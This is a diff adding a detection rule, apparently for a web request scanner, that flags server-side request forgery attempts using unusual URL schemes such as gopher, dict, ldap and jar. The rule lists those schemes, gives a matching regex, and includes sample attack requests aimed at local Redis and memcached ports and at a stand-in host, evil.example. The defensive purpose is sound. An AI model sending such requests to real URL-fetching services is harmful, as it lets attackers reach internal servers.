@@ -1,0 +1,57 @@
+import { defineRule } from '../rule.ts'
+
+export default defineRule({
+  id: 'ssrf/exotic-scheme',
+  title: 'Unusual URL scheme in a parameter',
+  why: 'gopher, dict, ldap or tftp let a URL fetcher speak to Redis, mail and other servers that know no HTTP.',
+  ja: {
+    title: '特殊な URL スキーム(gopher・dict など)',
+    why: 'gopher・dict・ldap・tftp などを使い、URL を取得する機能に Redis やメールなど HTTP 以外のサーバーと通信させようとしています。',
+  },
+  severity: 'high',
+  stage: 'inject',
+  attack: ['T1190'],
+  cwe: [918],
+  refs: [
+    'https://owasp.org/www-community/attacks/Server_Side_Request_Forgery',
+    'https://portswigger.net/web-security/ssrf',
+  ],
+
+  where: ['arg', 'path', 'referrer', 'agent'],
+  needs: [
+    [
+      'gopher:',
+      'dict://',
+      'ldap://',
+      'ldaps://',
+      'tftp://',
+      'sftp://',
+      'netdoc:',
+      'jar:http',
+      'jar:file',
+      'rmi://',
+      'smb://',
+      'local_file:',
+      'imap://',
+      'smtp://',
+      'telnet://',
+      'finger://',
+      'redis://',
+      'nfs://',
+      'mailto://',
+    ],
+  ],
+  match:
+    /(?:^|[\s"'(/=|])(?:(?:gopher|dict|ldaps?|tftp|sftp|rmi|smb|imap|smtp|telnet|finger|redis|nfs):\/\/[\w.[]|netdoc:\/|jar:(?:https?|file|ftp):|local_file:\/)/i,
+
+  hits: [
+    'GET /fetch?url=gopher://127.0.0.1:6379/_INFO HTTP/1.1',
+    'GET /fetch?url=dict://127.0.0.1:11211/stats HTTP/1.1',
+    'GET /fetch?url=jar:http://evil.example/a!/b HTTP/1.1',
+  ],
+  misses: [
+    'GET /docs/gopher?a=1 HTTP/1.1',
+    'GET /q?text=the+gopher:+an+animal HTTP/1.1',
+    { request: 'GET / HTTP/1.1', referrer: 'https://example.org/sftp' },
+  ],
+})
